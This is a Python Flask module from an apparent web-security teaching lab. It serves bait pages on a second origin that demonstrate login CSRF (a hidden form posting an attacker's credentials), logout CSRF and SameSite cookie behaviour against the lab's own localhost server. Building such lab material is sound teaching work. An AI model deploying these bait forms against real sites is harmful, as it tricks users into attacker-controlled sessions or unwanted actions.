"""Pages on another site: login CSRF, logout CSRF, and a link, a form and an image (SameSite).

Served by the desktop lab on ``localhost`` while the session server answers on ``127.0.0.1``:
two different sites to a browser. The form carries the attacker's credentials and no CSRF
token, because another site cannot read the token from the lab's pages.
"""

from __future__ import annotations

from flask import Flask, render_template_string

ATTACKER = "mallory"

PAGE = """<!doctype html>
<html lang="en">
<head><meta charset="utf-8"><title>Free cookies! – another site</title></head>
<body>
<h1>Claim your free cookie!</h1>
<p>This page lives on another site. Its button posts a login form to the lab's server,
with the attacker's user name and no CSRF token.</p>
<form method="post" action="{{ target }}">
  <input type="hidden" name="userid" value="{{ attacker }}">
  <input type="hidden" name="passwd" value="attacker-password">
  <button type="submit">Claim my cookie</button>
</form>
</body>
</html>
"""


TICKET_PAGE = """<!doctype html>
<html lang="en">
<head><meta charset="utf-8"><title>Free tickets! – another site</title></head>
<body>
<h1>Win a free ticket!</h1>
<p>This page lives on another site. Its button opens the lab's logout link: a top-level GET,
which a browser sends with the lab's SameSite=Lax cookie.</p>
<form method="get" action="{{ target }}">
  <button type="submit">Win my ticket</button>
</form>
</body>
</html>
"""

THREE_REQUESTS_PAGE = """<!doctype html>
<html lang="en">
<head><meta charset="utf-8"><title>Three requests – another site</title></head>
<body>
<h1>Three ways to reach the lab</h1>
<p>This page lives on another site. It reaches the lab's server in the three ways any page can:
a link (a top-level GET), a form (a top-level POST, here to the logout page, without a CSRF
token) and an image it embeds. Which of them carry the lab's session cookie depends on the
cookie's SameSite attribute.</p>
<p><a href="{{ secured }}">See your account on the lab</a></p>
<form method="post" action="{{ logout }}">
  <button type="submit">Log me out (a POST)</button>
</form>
<p><img src="{{ secured }}" alt="an image from the lab" width="1" height="1"></p>
</body>
</html>
"""

#: The other site's pages: the login-CSRF bait, the logout-CSRF bait, and the SameSite page.
LOGIN_BAIT = "/"
LOGOUT_BAIT = "/free-ticket/"
THREE_REQUESTS = "/three-requests/"


def create_other_site(target_login_url: str, target_logout_url: str | None = None) -> Flask:
    """Build the other site: one page posts to ``target_login_url``, one GETs the logout."""
    app = Flask(__name__)

    @app.get(LOGIN_BAIT)
    def free_cookies():
        """The login-CSRF bait page."""
        return render_template_string(PAGE, target=target_login_url, attacker=ATTACKER)

    @app.get(LOGOUT_BAIT)
    def free_ticket():
        """The logout-CSRF bait page."""
        target = target_logout_url or target_login_url.replace("/login/", "/logout/")
        return render_template_string(TICKET_PAGE, target=target)

    @app.get(THREE_REQUESTS)
    def three_requests():
        """The SameSite lesson's page: a link, a POST form and an image, all to the lab."""
        logout = target_logout_url or target_login_url.replace("/login/", "/logout/")
        secured = target_login_url.replace("/login/", "/secured_page/")
        return render_template_string(THREE_REQUESTS_PAGE, secured=secured, logout=logout)

    return app
